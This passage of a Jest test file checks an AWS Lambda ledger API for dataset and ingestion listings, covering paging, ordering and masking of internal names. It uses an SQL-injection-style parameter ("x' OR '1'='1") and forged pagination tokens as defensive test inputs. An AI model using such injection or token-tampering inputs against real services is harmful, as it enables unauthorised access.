import { mkdtempSync, rmSync } from 'node:fs';
import { createServer as createHttpServer, Server as HttpServer } from 'node:http';
import { AddressInfo, createServer, Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DynamoDBClient } from '@aws-sdk/client-dynamodb';
import { BatchWriteCommand, DynamoDBDocumentClient, ScanCommand } from '@aws-sdk/lib-dynamodb';
import type { APIGatewayProxyEvent, APIGatewayProxyResult } from 'aws-lambda';
import { expectSchema } from './openapi';
import { LedgerApiEnv } from '../../src/api/contract';
import { LedgerItem, LedgerStatus, LedgerStatusValue, SourceObject } from '../../src/ledger/contract';
import { IN_LAKE, Ledger, ledgerKey, ledgerRef } from '../../src/ledger/runtime/ledger';
import { CATALOG } from '../../src/ons/catalog';
import { createLedgerTable, isolatedAwsEnv, loadHandler as loadLocalHandler, LocalServer, restoreEnv, startDynalite } from '../local-aws';
import { closedPort } from '../local-http';
import { CapturedOutput, captureOutput } from '../runtime/output';

/**
 * `GET /datasets` and `GET /ingestions` as shipped: the bundled handler (SDK inside) against dynalite, the ledger
 * table created with the contract's keys and indexes and filled by the ingestion's own Ledger client.
 */

type Handler = (event: APIGatewayProxyEvent) => Promise<APIGatewayProxyResult>;

const ASSETS = join(__dirname, '..', '..', 'assets', 'api');
const TABLE = 'ons-api-ledger-test';
const CREDENTIALS = { accessKeyId: 'DYNALITE', secretAccessKey: 'DYNALITE' };
const BUCKETS = {
  raw: 'ons-ledger-raw-bucket',
  plain: 'ons-ledger-plain-bucket',
  processed: 'ons-ledger-processed-bucket',
  failed: 'ons-ledger-failed-bucket',
};
const EXECUTION = 'arn:aws:states:sa-east-1:123456789012:execution:OnsIngestion:run-0001';
const HEADERS = { 'content-type': 'application/json', 'cache-control': 'no-store' };
/** Text that must never reach a response body. */
const SECRETS = [
  ...Object.values(BUCKETS), 'arn:aws', 'executionArn', 'contentHash', 'sha256-', 'parquetKeys', 'processed/', 'knowledge/', 'quarantine/',
];

process.env.AWS_SDK_JS_NODE_VERSION_SUPPORT_WARNING_DISABLED = 'true';

let dynamo: LocalServer;
let endpoint: string;
let scratch: string;
let raw: DynamoDBClient;
let ddb: DynamoDBDocumentClient;
let output: CapturedOutput;
let consoleLog: jest.SpyInstance;
let consoleError: jest.SpyInstance;

/** Sets the environment, then loads a fresh copy of the bundled handler (its client reads the environment on first use). */
function loadHandler(env: Record<string, string | undefined> = {}): Handler {
  const base: Record<string, string | undefined> = {
    AWS_ENDPOINT_URL_DYNAMODB: endpoint,
    ...isolatedAwsEnv(scratch),
    AWS_ACCESS_KEY_ID: CREDENTIALS.accessKeyId,
    AWS_SECRET_ACCESS_KEY: CREDENTIALS.secretAccessKey,
    [LedgerApiEnv.TABLE]: TABLE,
    [LedgerApiEnv.TIME_SERIES_DATASETS]: JSON.stringify(['carga_energia', 'cmo_semanal']),
  };
  return loadLocalHandler('ledger', { ...base, ...env }, ASSETS) as Handler;
}

let requestCounter = 0;

/** An API Gateway REST proxy event as the ledger routes receive it. */
function apiEvent(resource: string, params: Record<string, string> | null = null, options: {
  multi?: Record<string, string[]>; method?: string; path?: string;
} = {}): APIGatewayProxyEvent {
  const multi = options.multi ?? (params ? Object.fromEntries(Object.entries(params).map(([k, v]) => [k, [v]])) : null);
  const requestId = `req-${++requestCounter}`;
  return {
    resource,
    path: options.path ?? resource,
    httpMethod: options.method ?? 'GET',
    headers: { 'accept': 'application/json', 'Host': 'api.example.com', 'User-Agent': 'jest' },
    multiValueHeaders: { 'accept': ['application/json'], 'Host': ['api.example.com'], 'User-Agent': ['jest'] },
    queryStringParameters: params,
    multiValueQueryStringParameters: multi,
    pathParameters: null,
    stageVariables: null,
    body: null,
    isBase64Encoded: false,
    requestContext: {
      accountId: '123456789012',
      apiId: 'abc123',
      httpMethod: options.method ?? 'GET',
      path: `/prod${options.path ?? resource}`,
      protocol: 'HTTP/1.1',
      requestId,
      requestTimeEpoch: 1_700_000_000_000,
      resourceId: 'res1',
      resourcePath: resource,
      stage: 'prod',
      identity: { sourceIp: '203.0.113.9', userAgent: 'jest' },
      authorizer: null,
    } as unknown as APIGatewayProxyEvent['requestContext'],
  };
}

interface Answer {
  statusCode: number;
  body: Record<string, unknown>;
  text: string;
}

/** Invokes the handler and checks what every response shares: headers, no internal names, one log line. */
async function invoke(handler: Handler, event: APIGatewayProxyEvent): Promise<Answer> {
  const before = consoleLog.mock.calls.length + consoleError.mock.calls.length;
  const result = await handler(event);
  expect(result.headers).toEqual(HEADERS);
  for (const secret of SECRETS) expect(result.body).not.toContain(secret);
  const lines = [...consoleLog.mock.calls, ...consoleError.mock.calls].length - before;
  expect(lines).toBe(1);
  const body = JSON.parse(result.body) as Record<string, unknown>;
  // Every answer is what the shipped OpenAPI document promises for its route.
  const success = event.resource === '/datasets' ? 'DatasetsResponse' : 'IngestionsResponse';
  expectSchema(result.statusCode === 200 ? success : 'Error', body);
  if (result.statusCode !== 200) {
    expect(Object.keys(body).sort()).toEqual(['error', 'requestId']);
    expect(body.requestId).toBe(event.requestContext.requestId);
  }
  return { statusCode: result.statusCode, body, text: result.body };
}

async function expectError(handler: Handler, event: APIGatewayProxyEvent, status: number, code: string): Promise<string> {
  const { statusCode, body } = await invoke(handler, event);
  expect({ statusCode, code: (body.error as { code: string }).code }).toEqual({ statusCode: status, code });
  return (body.error as { message: string }).message;
}

// ---------------------------------------------------------------------------------------------------------------
// The ledger's contents, recorded through the ingestion's Ledger client at chosen instants.

type Flow = 'received' | 'processing' | 'processed' | 'loaded' | 'indexed' | 'duplicate' | 'quarantined' | 'processedThenQuarantined'
  | 'document' | 'notLoaded' | 'retryLater' | 'queryable';

const FINAL: Record<Flow, LedgerStatusValue> = {
  received: 'received',
  processing: 'processing',
  processed: 'processed',
  loaded: 'loaded',
  indexed: 'indexed',
  duplicate: 'duplicate',
  quarantined: 'quarantined',
  processedThenQuarantined: 'quarantined',
  document: 'processed',
  notLoaded: 'processed',
  retryLater: 'retryLater',
  // The lake engine: the processor records a published file loaded (queryable) itself.
  queryable: 'loaded',
};
/** Flows whose item carries a dataset (set by recordProcessed). */
const WITH_DATASET: readonly Flow[] = ['processed', 'loaded', 'indexed', 'processedThenQuarantined', 'notLoaded', 'retryLater', 'queryable'];

interface Seed {
  readonly bucket: string;
  readonly key: string;
  readonly versionId?: string;
  readonly flow: Flow;
  readonly dataset?: string;
  /** Minutes after 2024-01-01T00:00Z of the last update. */
  readonly at: number;
  readonly start?: string;
  readonly end?: string;
}

const T = (minute: number) => new Date(Date.UTC(2024, 0, 1, 0, minute)).toISOString();

const SEEDS: Seed[] = [];
const DATASETS = ['carga_energia', 'curva_carga', 'dataset_fora_do_catalogo'];
const BULK_FLOWS: Flow[] = ['loaded', 'received', 'quarantined', 'processed', 'indexed', 'processedThenQuarantined', 'duplicate', 'processing',
  'loaded', 'notLoaded', 'document'];
for (let i = 0; i < 44; i++) {
  const flow = BULK_FLOWS[i % BULK_FLOWS.length];
  const plain = i % 5 === 4;
  SEEDS.push({
    bucket: plain ? BUCKETS.plain : BUCKETS.raw,
    // Pairs share a key: two versions of one object, often updated at the same instant.
    key: `incoming/ons/ARQUIVO_${Math.floor(i / 2)}_2023.${flow === 'document' ? 'pdf' : 'csv'}`,
    versionId: plain ? undefined : `v${String(i).padStart(2, '0')}.${'Zz'[i % 2]}`,
    flow,
    dataset: WITH_DATASET.includes(flow) ? DATASETS[i % 3] : undefined,
    // Groups of three share an instant: ties across statuses and within one.
    at: 400 - Math.floor(i / 3) * 7,
    start: `2023-${String((i % 12) + 1).padStart(2, '0')}-01T03:00:00.000Z`,
    end: `2023-${String((i % 12) + 1).padStart(2, '0')}-28T02:30:00.000Z`,
  });
}
// A throttled load waiting for its next attempt (what the state machine's RecordRetryLater writes).
SEEDS.push({ bucket: BUCKETS.raw, key: 'incoming/throttled/CARGA_ENERGIA_2013.csv', versionId: 't1', flow: 'retryLater', dataset: 'dataset_fora_do_catalogo', at: 450 });
// Same instant, two statuses: U+FFFD sorts after U+1F600 in UTF-16 but before it in UTF-8 (DynamoDB's order).
SEEDS.push({
  bucket: BUCKETS.raw,
  key: 'incoming/x/\u{1F600}.csv',
  versionId: 'e1',
  flow: 'loaded',
  dataset: 'carga_energia',
  at: 500,
  start: '2022-05-01T03:00:00.000Z',
  end: '2022-05-31T03:00:00.000Z',
});
SEEDS.push({ bucket: BUCKETS.raw, key: 'incoming/x/\uFFFD.csv', versionId: 'e1', flow: 'received', at: 500 });
// The earliest data of carga_energia, in an object quarantined after processing: not in the lake, not counted.
SEEDS.push({
  bucket: BUCKETS.raw,
  key: 'incoming/carga/CARGA_ENERGIA_1999.csv',
  versionId: 'q1',
  flow: 'processedThenQuarantined',
  dataset: 'carga_energia',
  at: 600,
  start: '1999-01-01T03:00:00.000Z',
  end: '2030-01-01T03:00:00.000Z',
});
// Published on the lake engine, which has no loader: loaded (queryable) by the processor.
SEEDS.push({
  bucket: BUCKETS.raw,
  key: 'incoming/lake/CURVA_CARGA_2024.csv',
  versionId: 'l1',
  flow: 'queryable',
  dataset: 'curva_carga',
  at: 300,
  start: '2024-01-01T03:00:00.000Z',
  end: '2024-12-31T02:30:00.000Z',
});
// In the lake without a period (a result without start and end).
SEEDS.push({ bucket: BUCKETS.raw, key: 'incoming/cmo/CMO_SEMANAL_2024.csv', versionId: 'c1', flow: 'processed', dataset: 'cmo_semanal', at: 50 });

const sourceOf = (s: Seed): SourceObject => ({ bucket: s.bucket, key: s.key, versionId: s.versionId, size: 1000 + s.at });
const DUPLICATE_OF = SEEDS[0];

async function record(ledger: Ledger, s: Seed): Promise<void> {
  const source = sourceOf(s);
  const executionArn = EXECUTION;
  const at = Date.UTC(2024, 0, 1, 0, s.at);
  // The first step a few minutes before the last, like a real run.
  jest.setSystemTime(s.flow === 'received' ? at : at - 3 * 60_000);
  await ledger.recordReceived(source, { executionArn, route: s.flow === 'document' ? 'document' : 'process' });
  jest.setSystemTime(at);
  if (s.flow === 'received') return;
  if (s.flow === 'quarantined') {
    await ledger.recordQuarantined(source, {
      executionArn,
      error: {
        step: 'Route',
        reason: `s3://${s.bucket}/${s.key} is not a known file (copied to ${BUCKETS.failed}; run ${EXECUTION})`,
        errorType: 'FileRefused',
      },
      quarantine: { bucket: BUCKETS.failed, key: `quarantine/${s.key}`, errorKey: `quarantine/${s.key}.error.json` },
    });
    return;
  }
  if (s.flow === 'document') {
    const outputs = { processedBucket: BUCKETS.processed, documentKey: `knowledge/documents/${s.key}` };
    await ledger.recordDocument(source, { executionArn, outputs });
    return;
  }
  const contentHash = `sha256-${s.key}-${s.versionId}`;
  await ledger.startProcessing(source, { executionArn, contentHash });
  if (s.flow === 'processing') {
    await ledger.recordFailure(source, { step: 'ProcessFile', reason: `AccessDenied on ${s.bucket} (${EXECUTION})`, errorType: 'AccessDenied' });
    return;
  }
  if (s.flow === 'duplicate') {
    await ledger.recordDuplicate(source, {
      executionArn,
      result: { status: 'duplicate', contentHash, duplicateOf: ledgerRef(ledgerKey(DUPLICATE_OF)) },
    });
    return;
  }
  await ledger.recordProcessed(source, {
    executionArn,
    result: {
      status: 'processed',
      contentHash,
      dataset: s.dataset,
      rows: 48,
      records: 47,
      rejected: 1,
      series: 4,
      start: s.start,
      end: s.end,
      parquetKeys: [`processed/${s.dataset}/part-0.parquet`],
    },
    outputs: {
      processedBucket: BUCKETS.processed,
      parquetKeys: [`processed/${s.dataset}/part-0.parquet`],
      failedBucket: BUCKETS.failed,
      rejectedKey: `rejected/${s.key}.csv`,
    },
  });
  if (s.flow === 'processedThenQuarantined') {
    await ledger.recordQuarantined(source, {
      executionArn,
      error: { step: 'LoadTimeSeries', reason: 'States.Timeout', errorType: 'States.Timeout' },
      quarantine: { bucket: BUCKETS.failed, key: `quarantine/${s.key}`, errorKey: `quarantine/${s.key}.error.json` },
    });
    return;
  }
  if (s.flow === 'notLoaded') {
    const load = { status: 'notLoaded', at: T(s.at), reason: `no time-series table for ${s.dataset}` } as const;
    await ledger.recordNotLoaded(source, { executionArn, load });
    return;
  }
  if (s.flow === 'processed') return;
  if (s.flow === 'queryable') {
    await ledger.recordQueryable(source, { executionArn, load: { status: 'loaded', at: T(s.at), records: 47, version: at } });
    return;
  }
  if (s.flow === 'retryLater') {
    const reason = 'WriteRecords to carga throttled for 300 s without a write taken: load again later; ThrottlingException: Request rate limit exceeded.';
    await ledger.transition(source, 'retryLater', { set: { retryLater: { attempt: 1, maxAttempts: 15, waitSeconds: 330, at: T(s.at), reason } } });
    return;
  }
  await ledger.recordLoaded(source, {
    executionArn,
    load: {
      status: 'loaded',
      at: T(s.at),
      table: 'carga',
      records: 47,
      points: 47,
      rejected: 0,
      skipped: 0,
      requests: 1,
      version: at,
      failedBucket: BUCKETS.failed,
      rejectedKey: `rejected/${s.key}.timestream.json`,
    },
  });
  if (s.flow === 'indexed') await ledger.transition(source, LedgerStatus.INDEXED, { onlyFromStatus: [LedgerStatus.LOADED] });
}

/** How a seed is listed, for order and membership checks. */
const ref = (s: Seed) => `${s.key}?${s.versionId ?? null}|${FINAL[s.flow]}|${T(s.at)}`;
const refOf = (e: Record<string, unknown>) => `${e.key}?${e.versionId}|${e.status}|${e.updatedAt}`;
const bytes = (s: string) => Buffer.from(s, 'utf8');

/** Newest first; ties by pk then sk, descending, in UTF-8 bytes (DynamoDB's order of a descending index read). */
function expectedOrder(seeds: readonly Seed[]): string[] {
  return [...seeds].sort((a, b) => {
    const keys = (s: Seed) => [T(s.at), `s3://${s.bucket}/${s.key}`, s.versionId ?? 'null'];
    const [ka, kb] = [keys(a), keys(b)];
    for (let i = 0; i < 3; i++) {
      const c = Buffer.compare(bytes(kb[i]), bytes(ka[i]));
      if (c !== 0) return c;
    }
    return 0;
  }).map(ref);
}

beforeAll(async () => {
  scratch = mkdtempSync(join(tmpdir(), 'ons-ledger-api-'));
  dynamo = await startDynalite();
  endpoint = dynamo.endpoint;
  raw = new DynamoDBClient({ endpoint, region: 'us-east-1', credentials: CREDENTIALS });
  ddb = DynamoDBDocumentClient.from(raw);
  await createLedgerTable(raw, TABLE);
  const ledger = new Ledger(ddb, TABLE);
  // Only Date is faked: the SDK's timers and sockets keep working.
  jest.useFakeTimers({
    doNotFake: ['hrtime', 'nextTick', 'performance', 'queueMicrotask', 'requestAnimationFrame', 'cancelAnimationFrame', 'requestIdleCallback',
      'cancelIdleCallback', 'setImmediate', 'clearImmediate', 'setInterval', 'clearInterval', 'setTimeout', 'clearTimeout'],
  });
  try {
    for (const s of SEEDS) await record(ledger, s);
  } finally {
    jest.useRealTimers();
  }
}, 60_000);

afterAll(async () => {
  restoreEnv();
  ddb?.destroy();
  raw?.destroy();
  await dynamo?.close();
  if (scratch) rmSync(scratch, { recursive: true, force: true });
});

beforeEach(() => {
  output = captureOutput();
  consoleLog = output.log;
  consoleError = output.error;
});

afterEach(() => {
  output.restore();
  restoreEnv();
});

function logLines(): Array<Record<string, unknown>> {
  return [...consoleLog.mock.calls, ...consoleError.mock.calls].map(([line]) => JSON.parse(String(line)) as Record<string, unknown>);
}

test('the seeded ledger is what the tests expect (every item, final status and instant)', async () => {
  const { Items = [] } = await ddb.send(new ScanCommand({ TableName: TABLE }));
  const stored = Items.map((i) => `${i.key}?${i.sk === 'null' ? null : i.sk}|${i.status}|${i.updatedAt}`).sort();
  expect(stored).toEqual(SEEDS.map(ref).sort());
  // Every status and several datasets are present, and instants tie.
  expect(new Set(Items.map((i) => i.status))).toEqual(new Set(Object.values(LedgerStatus)));
  expect(new Set(SEEDS.map((s) => s.at)).size).toBeLessThan(SEEDS.length - 10);
});

// ---------------------------------------------------------------------------------------------------------------

describe('GET /datasets', () => {
  function expectedLoaded(id: string) {
    const inLake = SEEDS.filter((s) => s.dataset === id && ['processed', 'loaded', 'indexed'].includes(FINAL[s.flow]));
    if (inLake.length === 0) return null;
    const starts = inLake.map((s) => s.start).filter((x): x is string => !!x).sort();
    const ends = inLake.map((s) => s.end).filter((x): x is string => !!x).sort();
    return {
      files: inLake.length,
      from: starts[0] ?? null,
      to: ends[ends.length - 1] ?? null,
      lastLoadedAt: inLake.map((s) => T(s.at)).sort().reverse()[0],
    };
  }

  test('every catalog dataset, in catalog order, with the catalog fields, timeSeries from the env and what the ledger holds', async () => {
    const { statusCode, body } = await invoke(loadHandler(), apiEvent('/datasets'));

    expect(statusCode).toBe(200);
    expect(body).toEqual({
      datasets: CATALOG.map((d) => ({
        id: d.id,
        title: d.title,
        description: d.description,
        grain: d.grain,
        dimensions: d.dimensions,
        measures: d.measures.map((m) => ({ name: m.name, unit: m.unit, description: m.description, aggregation: m.aggregation })),
        timeSeries: d.id === 'carga_energia' || d.id === 'cmo_semanal',
        loaded: expectedLoaded(d.id),
      })),
    });
  });

  test('loaded figures are the seeded ones (spelled out), null for datasets with nothing in the lake', async () => {
    const { body } = await invoke(loadHandler(), apiEvent('/datasets'));
    const byId = Object.fromEntries((body.datasets as Array<{ id: string; loaded: unknown }>).map((d) => [d.id, d.loaded]));

    const carga = SEEDS.filter((s) => s.dataset === 'carga_energia' && ['processed', 'loaded', 'indexed'].includes(FINAL[s.flow]));
    expect(carga.length).toBeGreaterThan(3);
    // The quarantined 1999 file (start 1999, end 2030) is not in the lake: it widens neither end.
    expect(byId.carga_energia).toEqual({
      files: carga.length, from: '2022-05-01T03:00:00.000Z', to: '2023-10-28T02:30:00.000Z', lastLoadedAt: T(500),
    });
    expect(byId.cmo_semanal).toEqual({ files: 1, from: null, to: null, lastLoadedAt: T(50) });
    expect(byId.curva_carga).toEqual(expect.objectContaining({ files: expect.any(Number) }));
    expect(byId.ear_diario_subsistema).toBeNull();
    expect(Object.keys(byId)).not.toContain('dataset_fora_do_catalogo');
  });

  test('a dataset outside the catalog with a lake table (additionalDatasets) is listed after the catalog, as described', async () => {
    const extra = { id: 'dataset_fora_do_catalogo', description: 'Restrição eólica', dimensions: ['id_subsistema'], measures: [{ name: 'val_restricao', unit: 'MW' }] };
    const { body } = await invoke(loadHandler({
      [LedgerApiEnv.DATASETS]: JSON.stringify([extra]),
      [LedgerApiEnv.TIME_SERIES_DATASETS]: JSON.stringify(['carga_energia', 'dataset_fora_do_catalogo']),
    }), apiEvent('/datasets'));
    const datasets = body.datasets as Array<Record<string, any>>;
    expect(datasets.map((d) => d.id)).toEqual([...CATALOG.map((d) => d.id), 'dataset_fora_do_catalogo']);
    // Its figures are read as the catalog's are: its seeded files in the lake.
    const inLake = SEEDS.filter((x) => x.dataset === 'dataset_fora_do_catalogo' && IN_LAKE.includes(FINAL[x.flow]));
    expect(inLake.length).toBeGreaterThan(1);
    expect(datasets[datasets.length - 1]).toEqual({
      id: 'dataset_fora_do_catalogo',
      title: { pt: 'dataset_fora_do_catalogo', en: 'dataset_fora_do_catalogo' },
      description: { pt: 'Restrição eólica', en: 'Restrição eólica' },
      grain: null,
      dimensions: ['id_subsistema'],
      measures: [{ name: 'val_restricao', unit: 'MW', description: { pt: 'val_restricao', en: 'val_restricao' }, aggregation: 'mean' }],
      timeSeries: true,
      loaded: { files: inLake.length, from: '2023-03-01T03:00:00.000Z', to: '2023-12-28T02:30:00.000Z', lastLoadedAt: expect.any(String) },
    });
  });

  test(`${LedgerApiEnv.DATASETS} malformed: 500, the reason in the log only`, async () => {
    await expectError(loadHandler({ [LedgerApiEnv.DATASETS]: '[{"id":"x"}]' }), apiEvent('/datasets'), 500, 'InternalError');
  });

  test(`${LedgerApiEnv.TIME_SERIES_DATASETS} unset: timeSeries false everywhere`, async () => {
    const { body } = await invoke(loadHandler({ [LedgerApiEnv.TIME_SERIES_DATASETS]: undefined }), apiEvent('/datasets'));
    const flags = (body.datasets as Array<{ timeSeries: boolean }>).map((d) => d.timeSeries);
    expect(flags).toHaveLength(CATALOG.length);
    expect(flags.every((f) => f === false)).toBe(true);
  });

  test.each([
    ['a parameter', { limit: '5' }, "'limit'"],
    ['an injected name', { "x' OR '1'='1": '1' }, '(a parameter with an invalid name)'],
  ])('%s: 400 UnknownParameter', async (_, params, named) => {
    const message = await expectError(loadHandler(), apiEvent('/datasets', params), 400, 'UnknownParameter');
    expect(message).toContain(named);
    expect(message).not.toContain("OR '1'");
  });

  test('one log line with the route, status and reads', async () => {
    await invoke(loadHandler(), apiEvent('/datasets'));
    expect(logLines()).toEqual([expect.objectContaining({ level: 'INFO', message: 'datasets', status: 200, datasets: CATALOG.length })]);
  });
});

// ---------------------------------------------------------------------------------------------------------------

describe('GET /ingestions', () => {
  type Params = Record<string, string>;
  const matching = (p: { status?: string; dataset?: string }) => SEEDS.filter((s) => (p.status === undefined || FINAL[s.flow] === p.status)
    && (p.dataset === undefined || s.dataset === p.dataset));

  async function page(handler: Handler, params: Params) {
    const { statusCode, body } = await invoke(handler, apiEvent('/ingestions', Object.keys(params).length ? params : null));
    expect(statusCode).toBe(200);
    return body as { ingestions: Array<Record<string, unknown>>; nextToken?: string };
  }

  /** Every page with `limit`, following nextToken; checks page sizes on the way. */
  async function all(handler: Handler, params: Params, limit: number): Promise<string[]> {
    const seen: string[] = [];
    let token: string | undefined;
    for (let pages = 0; pages < 200; pages++) {
      const body = await page(handler, { ...params, limit: String(limit), ...(token ? { nextToken: token } : {}) });
      expect(body.ingestions.length).toBeLessThanOrEqual(limit);
      seen.push(...body.ingestions.map(refOf));
      token = body.nextToken;
      if (!token) return seen;
      // A token comes only with a full page here (no filter skips enough to end a page early).
      expect(body.ingestions).toHaveLength(limit);
    }
    throw new Error('paging did not end');
  }

  const CASES: Array<[string, Params]> = [
    ['neither (merge of every status)', {}],
    ['status only', { status: 'loaded' }],
    ['status only (quarantined)', { status: 'quarantined' }],
    ['dataset only', { dataset: 'carga_energia' }],
    ['dataset outside the catalog', { dataset: 'dataset_fora_do_catalogo' }],
    ['dataset and status', { dataset: 'carga_energia', status: 'loaded' }],
    ['dataset and status (quarantined, outside the catalog)', { dataset: 'dataset_fora_do_catalogo', status: 'quarantined' }],
  ];

  test.each(CASES)('%s: the newest 25 first, a token only when more exist', async (_, params) => {
    const expected = expectedOrder(matching(params));
    expect(expected.length).toBeGreaterThan(1);
    const body = await page(loadHandler(), params);
    expect(body.ingestions.map(refOf)).toEqual(expected.slice(0, 25));
    expect(body.nextToken !== undefined).toBe(expected.length > 25);
  });

  test.each(CASES.flatMap(([name, params]) => [1, 2, 3, 7].map((limit) => [name, limit, params] as const)))(
    '%s, limit %d: paging returns every matching entry exactly once, in order', async (_, limit, params) => {
      const handler = loadHandler();
      expect(await all(handler, params, limit)).toEqual(expectedOrder(matching(params)));
    });

  test('a status with no entries: empty list, no token', async () => {
    const body = await page(loadHandler(), { status: 'indexed', dataset: 'cmo_semanal' });
    expect(body).toEqual({ ingestions: [] });
  });

  test('a dataset the ledger has never seen: empty list, no token', async () => {
    expect(await page(loadHandler(), { dataset: 'nunca_visto' })).toEqual({ ingestions: [] });
  });

  test('limit may change between pages: the next page continues where the last ended', async () => {
    const handler = loadHandler();
    const expected = expectedOrder(matching({}));
    const first = await page(handler, { limit: '3' });
    const second = await page(handler, { limit: '10', nextToken: first.nextToken! });
    const rest = await page(handler, { limit: '100', nextToken: second.nextToken! });
    expect([...first.ingestions, ...second.ingestions, ...rest.ingestions].map(refOf)).toEqual(expected);
    expect(rest.nextToken).toBeUndefined();
  });

  test('the merge breaks a tie across statuses by pk in UTF-8 byte order', async () => {
    const body = await page(loadHandler(), { limit: '2' });
    expect(body.ingestions.map((e) => e.key)).toEqual(['incoming/carga/CARGA_ENERGIA_1999.csv', 'incoming/x/\u{1F600}.csv']);
    const next = await page(loadHandler(), { limit: '1', nextToken: body.nextToken! });
    expect(next.ingestions.map((e) => e.key)).toEqual(['incoming/x/\uFFFD.csv']);
  });

  describe('entries', () => {
    let entries: Array<Record<string, unknown>>;
    beforeAll(async () => {
      const silenced = captureOutput();
      consoleLog = silenced.log;
      consoleError = silenced.error;
      entries = (await page(loadHandler(), { limit: '100' })).ingestions;
      silenced.restore();
    });
    const find = (s: Seed) => entries.find((e) => e.key === s.key && e.versionId === (s.versionId ?? null));
    const seed = (flow: Flow, plain = false) => SEEDS.find((s) => s.flow === flow && (s.bucket === BUCKETS.plain) === plain && s.at < 500)!;

    test('all of them in one page of 100', () => {
      expect(entries.map(refOf)).toEqual(expectedOrder(SEEDS));
    });

    test('a loaded tabular file: its figures and the load, nothing internal', () => {
      const s = seed('loaded');
      expect(find(s)).toEqual({
        key: s.key,
        versionId: s.versionId,
        status: 'loaded',
        dataset: s.dataset,
        kind: 'tabular',
        size: 1000 + s.at,
        receivedAt: new Date(Date.UTC(2024, 0, 1, 0, s.at) - 180_000).toISOString(),
        updatedAt: T(s.at),
        start: s.start,
        end: s.end,
        rows: 48,
        records: 47,
        rejected: 1,
        series: 4,
        load: { status: 'loaded', at: T(s.at), points: 47, rejected: 0 },
      });
    });

    test('a file on the lake engine: loaded once published, the load saying when (no store figures: nothing was written to a store)', () => {
      const s = SEEDS.find((x) => x.flow === 'queryable')!;
      expect(find(s)).toEqual({
        key: s.key,
        versionId: s.versionId,
        status: 'loaded',
        dataset: s.dataset,
        kind: 'tabular',
        size: 1000 + s.at,
        receivedAt: new Date(Date.UTC(2024, 0, 1, 0, s.at) - 180_000).toISOString(),
        updatedAt: T(s.at),
        start: s.start,
        end: s.end,
        rows: 48,
        records: 47,
        rejected: 1,
        series: 4,
        load: { status: 'loaded', at: T(s.at) },
      });
    });

    test('an unversioned object: versionId null', () => {
      const s = SEEDS.find((x) => x.bucket === BUCKETS.plain && x.flow === 'received')!;
      expect(find(s)).toEqual({
        key: s.key, versionId: null, status: 'received', size: 1000 + s.at, receivedAt: T(s.at), updatedAt: T(s.at),
      });
    });

    test('a duplicate: duplicateOf as key?versionId= without the bucket', () => {
      const s = seed('duplicate');
      const duplicateOf = `${DUPLICATE_OF.key}?versionId=${DUPLICATE_OF.versionId}`;
      expect(find(s)).toEqual(expect.objectContaining({ status: 'duplicate', kind: 'tabular', duplicateOf }));
      expect(find(s)).not.toHaveProperty('dataset');
    });

    test('quarantined by the router: the error with S3 URIs, bucket names and ARNs masked', () => {
      const s = seed('quarantined');
      expect(find(s)).toEqual({
        key: s.key,
        versionId: s.versionId,
        status: 'quarantined',
        size: 1000 + s.at,
        receivedAt: new Date(Date.UTC(2024, 0, 1, 0, s.at) - 180_000).toISOString(),
        updatedAt: T(s.at),
        error: { step: 'Route', reason: `${s.key} is not a known file (copied to <bucket>; run <arn>)`, errorType: 'FileRefused' },
      });
    });

    test('a failed attempt still processing: the error kept, bucket and ARN masked', () => {
      const s = seed('processing');
      expect(find(s)!.error).toEqual({ step: 'ProcessFile', reason: 'AccessDenied on <bucket> (<arn>)', errorType: 'AccessDenied' });
    });

    test('a dataset without a table: load notLoaded with its reason', () => {
      const s = seed('notLoaded');
      const load = { status: 'notLoaded', at: T(s.at), reason: `no time-series table for ${s.dataset}` };
      expect(find(s)).toEqual(expect.objectContaining({ status: 'processed', load }));
    });

    test('a document: kind document, no dataset, no output location', () => {
      const s = seed('document');
      expect(find(s)).toEqual({
        key: s.key,
        versionId: s.versionId,
        status: 'processed',
        kind: 'document',
        size: 1000 + s.at,
        receivedAt: new Date(Date.UTC(2024, 0, 1, 0, s.at) - 180_000).toISOString(),
        updatedAt: T(s.at),
      });
    });

    test('no entry has a field outside the contract', () => {
      const allowed = ['key', 'versionId', 'status', 'dataset', 'kind', 'size', 'receivedAt', 'updatedAt', 'start', 'end', 'rows', 'records',
        'rejected',
        'series', 'duplicateOf', 'error', 'load'];
      for (const e of entries) expect(Object.keys(e).filter((k) => !allowed.includes(k))).toEqual([]);
    });
  });

  describe('nextToken', () => {
    async function tokenFor(params: Params): Promise<string> {
      const body = await page(loadHandler(), { ...params, limit: '2' });
      expect(body.nextToken).toEqual(expect.any(String));
      return body.nextToken!;
    }
    const decode = (t: string) => JSON.parse(Buffer.from(t, 'base64url').toString('utf8')) as { v: number; c: unknown[]; h: string };
    const encode = (o: unknown) => Buffer.from(JSON.stringify(o)).toString('base64url');

    test.each([
      ['status', { status: 'loaded' }, [{}, { status: 'processed' }, { dataset: 'carga_energia' }, { status: 'loaded', dataset: 'carga_energia' }]],
      ['dataset', { dataset: 'carga_energia' }, [{}, { dataset: 'curva_carga' }, { status: 'loaded' },
        { status: 'loaded', dataset: 'carga_energia' }]],
      ['merge', {}, [{ status: 'loaded' }, { dataset: 'carga_energia' }]],
      ['dataset and status', { dataset: 'carga_energia', status: 'loaded' }, [{ dataset: 'carga_energia' }, { status: 'loaded' }, {}]],
    ] as Array<[string, Params, Params[]]>)('a %s token used with other parameters: 400 InvalidNextToken', async (_, params, others) => {
      const token = await tokenFor(params);
      // The same token with its own parameters works.
      expect((await page(loadHandler(), { ...params, nextToken: token })).ingestions.length).toBeGreaterThan(0);
      for (const other of others) await expectError(loadHandler(), apiEvent('/ingestions', { ...other, nextToken: token }), 400, 'InvalidNextToken');
    });

    test('tampered tokens: 400 InvalidNextToken', async () => {
      const token = await tokenFor({ status: 'loaded' });
      const merged = await tokenFor({});
      const t = decode(token);
      const m = decode(merged);
      const cursor = t.c[0] as { pk: string; sk: string; u: string };
      const tampered = [
        token.slice(0, -2) + (token.endsWith('A') ? 'BB' : 'AA'),
        encode({ ...t, c: [{ ...cursor, u: '2030-01-01T00:00:00.000Z' }] }),
        encode({ ...t, c: [{ ...cursor, pk: `s3://${BUCKETS.raw}/other` }] }),
        encode({ ...t, c: [null] }),
        encode({ ...t, v: 2 }),
        encode({ ...t, extra: 1 }),
        encode({ v: t.v, c: t.c }),
        encode({ ...m, c: m.c.map(() => 'x') }),
        encode({ ...m, c: m.c.slice(1) }),
        encode([t.v, t.c, t.h]),
        encode('hello'),
        Buffer.from('not json').toString('base64url'),
